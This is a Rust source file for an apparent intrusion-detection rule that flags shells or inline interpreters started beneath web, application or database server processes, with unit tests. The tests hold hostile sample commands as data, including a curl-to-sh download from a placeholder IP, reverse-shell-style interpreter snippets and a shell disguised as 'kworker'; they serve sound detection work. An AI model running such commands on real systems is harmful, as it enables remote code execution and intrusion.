//! server-spawned-shell (T1505.003): a shell or an inline interpreter whose ancestry holds a
//! server process. Sources: Sigma proc_creation_lnx_webshell_detection, Elastic
//! persistence_webserver_suspicious_command_execution, Falco "Run shell untrusted" and "Web
//! Server Spawned Shell", Tracee TRC-1016, Splunk linux_java_spawning_shell. Unlike Sigma and
//! Tracee it looks at every ancestor, not the parent alone, so `apache2 -> sh -> bash` is seen.

use super::{
    super::{
        DetectError,
        annotation::Annotation,
        family::Families,
        matcher::{ExeMatcher, effective_name},
        payload::facts,
    },
    RuleCommon,
};
use crate::{
    config::ShellRuleConfig,
    lineage::{Image, Process},
};

impl super::RuleUnit for ShellRule {
    /// What alerts and metrics say about this rule.
    const META: super::RuleMeta = super::RuleMeta {
        id: "server-spawned-shell",
        name: "Shell or inline interpreter started below a server process",
        description: "A shell (sh, bash, dash, busybox sh, ...) or an interpreter running \
        inline code (python -c, perl -e, php -r, ...) has a server process (web, application or \
        database server) among its ancestors: the typical first step of a web shell or \
        of command execution through a database server.",
        category: &["process"],
        event_type: &["start"],
        server_optional: false,
    };

    fn compile(config: &crate::config::Config, families: &Families) -> Result<Self, DetectError> {
        Self::new(&config.rules.server_spawned_shell, families)
    }

    fn common(&self) -> &RuleCommon {
        &self.common
    }

    fn on_exec<'e>(&mut self, cx: &super::ExecContext<'_>, out: &mut Vec<super::Finding<'e>>) {
        if super::below_server(&cx.process.annotation) && self.fires(cx.process) {
            let image = &cx.process.image;
            let (_, indicators) = facts(&image.exe, &image.argv, true);
            out.push(super::Finding {
                // A payload that downloads, decodes or opens a reverse shell is never a habit.
                always_alert: !indicators.is_empty(),
                ..super::Finding::new(super::RuleId::ServerSpawnedShell, cx.process.id, cx.ts_ns)
            });
        }
    }
}

super::rule_section!(ShellRuleConfig);

pub struct ShellRule {
    pub common: RuleCommon,
    shells: ExeMatcher,
    interpreters: ExeMatcher,
    flags: Vec<Vec<String>>,
}

const FIELD: &str = "rules.server_spawned_shell";

impl ShellRule {
    pub fn new(config: &ShellRuleConfig, families: &Families) -> Result<Self, DetectError> {
        let interps: Vec<(usize, &str, String)> = config
            .interpreters
            .iter()
            .enumerate()
            .map(|(i, it)| {
                (
                    i,
                    it.executable.as_str(),
                    format!("{FIELD}.interpreters[{i}].executable"),
                )
            })
            .collect();
        for (i, it) in config.interpreters.iter().enumerate() {
            if it.flags.is_empty() || it.flags.iter().any(|f| !f.starts_with('-') || f.len() < 2) {
                return Err(DetectError::invalid(
                    &format!("{FIELD}.interpreters[{i}].flags"),
                    "list flags such as \"-c\" or \"--eval\"",
                ));
            }
        }
        Ok(Self {
            common: RuleCommon::compile(config, FIELD, families)?,
            shells: ExeMatcher::new(&config.shells, &format!("{FIELD}.shells"))?,
            interpreters: ExeMatcher::new_owned(&interps)?,
            flags: config
                .interpreters
                .iter()
                .map(|i| i.flags.clone())
                .collect(),
        })
    }

    /// A process below a server that annotation found to be a shell (by name, inline code or
    /// content).
    pub fn fires(&self, p: &Process<Annotation>) -> bool {
        self.common.enabled && p.annotation.shell_below_server
    }

    /// Whether the file at `path` is a shell by name (interpreters need argv, so they are not).
    pub fn is_shell_file(&self, path: &str) -> bool {
        let name = path.rsplit('/').next().unwrap_or(path);
        self.shells.is_match(path, name)
    }

    /// A shell, or an interpreter given code on its command line.
    pub fn is_shell(
        &self,
        image: &Image,
        scratch: &mut Vec<usize>,
        owners: &mut Vec<usize>,
    ) -> bool {
        let name = effective_name(image);
        if self.shells.is_match(&image.exe, name) {
            return true;
        }
        owners.clear();
        self.interpreters
            .owners_into(&image.exe, name, scratch, owners);
        owners.iter().any(|&i| {
            self.flags
                .get(i)
                .is_some_and(|flags| image.argv.iter().skip(1).any(|arg| has_flag(arg, flags)))
        })
    }
}

/// `-c` given as `-c`, or inside a cluster of single-letter flags (`-ic`); long flags exactly.
fn has_flag(arg: &str, flags: &[String]) -> bool {
    flags.iter().any(|flag| {
        if arg == flag {
            return true;
        }
        let letter = flag
            .strip_prefix('-')
            .filter(|l| l.len() == 1 && !flag.starts_with("--"));
        match letter {
            Some(l) => {
                arg.len() > 2
                    && arg.starts_with('-')
                    && !arg.starts_with("--")
                    && arg[1..].chars().all(|c| c.is_ascii_alphabetic())
                    && arg[1..].contains(l)
            }
            None => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::DetectConfig;
    use crate::{
        config::Config,
        detect::{Engine, HostInfo, test_support::*},
    };

    use crate::lineage::test_image as image;

    #[test]
    fn shells_busybox_and_inline_interpreters() {
        let families = Families::new(&DetectConfig::default()).expect("families");
        let rule = ShellRule::new(&ShellRuleConfig::default(), &families).expect("rule");
        let (mut a, mut b) = (Vec::new(), Vec::new());
        let mut is = |exe: &str, argv: &[&str]| rule.is_shell(&image(exe, argv), &mut a, &mut b);
        assert!(is("/usr/bin/dash", &["sh", "-c", "id"]));
        assert!(is("/bin/busybox", &["sh", "-c", "id"]));
        assert!(is("/bin/busybox", &["busybox", "ash"]));
        assert!(!is("/bin/busybox", &["busybox", "wget", "x"]));
        assert!(is("/usr/bin/python3.12", &["python3", "-c", "import pty"]));
        assert!(is("/usr/bin/perl", &["perl", "-e", "use Socket"]));
        assert!(is("/usr/bin/php8.2", &["php", "-r", "system('id');"]));
        assert!(is("/usr/bin/ruby3.1", &["ruby", "-rsocket", "-e", "x"]));
        assert!(is("/usr/bin/python3", &["python3", "-Ic", "x"]));
        assert!(!is(
            "/usr/bin/python3",
            &["python3", "manage.py", "migrate"]
        ));
        assert!(
            !is("/usr/sbin/php-fpm8.2", &["php-fpm", "-r"]),
            "php-fpm is not the php CLI"
        );
        assert!(!is(
            "/usr/bin/node",
            &["node", "--enable-source-maps", "server.js"]
        ));
    }

    #[test]
    fn a_shell_copied_under_another_name_is_a_shell() {
        let host = FakeHost {
            copies: vec![("/usr/local/lib/kworker", "/usr/bin/dash")],
            ..FakeHost::default()
        };
        let mut engine = Engine::new(&Config::default(), HostInfo::default())
            .expect("engine")
            .with_host_facts(Box::new(host));
        let mut alerts = Vec::new();
        engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
        engine.process(
            exec(2, 20, 10, "/usr/local/lib/kworker", &["kworker", "-c", "x"]),
            &mut alerts,
        );
        engine.process(exec(3, 21, 10, "/usr/local/lib/other", &["other"]), &mut alerts);
        // Outside a server, a copy is nobody's business.
        engine.process(exec(4, 30, 1, "/usr/local/lib/kworker", &["kworker"]), &mut alerts);
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        let v = serde_json::to_value(&alerts[0]).expect("json");
        assert_eq!(v["rule"]["id"], "server-spawned-shell");
        assert_eq!(v["process"]["executable"], "/usr/local/lib/kworker");
        assert_eq!(v["lineage"]["shell_copy_of"], "/usr/bin/dash");
    }

    /// The alert splits the payload into commands and says what in it always alerts; `sh -c --`
    /// (glibc 2.38+ system()) reads as `sh -c`.
    #[test]
    fn alerts_list_the_payloads_commands_and_indicators() {
        let mut engine = Engine::new(&Config::default(), HostInfo::default()).expect("engine");
        let mut alerts = Vec::new();
        engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
        let payload = "cd /tmp && curl -s http://192.0.2.1/a.sh | sh";
        engine.process(
            exec(2, 11, 10, "/bin/sh", &["sh", "-c", "--", payload]),
            &mut alerts,
        );
        engine.process(exec(3, 12, 10, "/bin/bash", &["bash", "-i"]), &mut alerts);
        assert_eq!(alerts.len(), 2, "{alerts:#?}");
        let v = serde_json::to_value(&alerts[0]).expect("json");
        assert_eq!(
            v["lineage"]["shell"]["commands"],
            serde_json::json!(["cd /tmp", "curl -s http://192.0.2.1/a.sh", "sh"])
        );
        assert_eq!(
            v["lineage"]["indicators"],
            serde_json::json!(["download-to-shell"])
        );
        let v = serde_json::to_value(&alerts[1]).expect("json");
        assert!(v["lineage"].get("shell").is_none(), "no -c payload: {v}");
        assert_eq!(
            v["lineage"]["indicators"],
            serde_json::json!(["interactive-shell"])
        );
    }
}
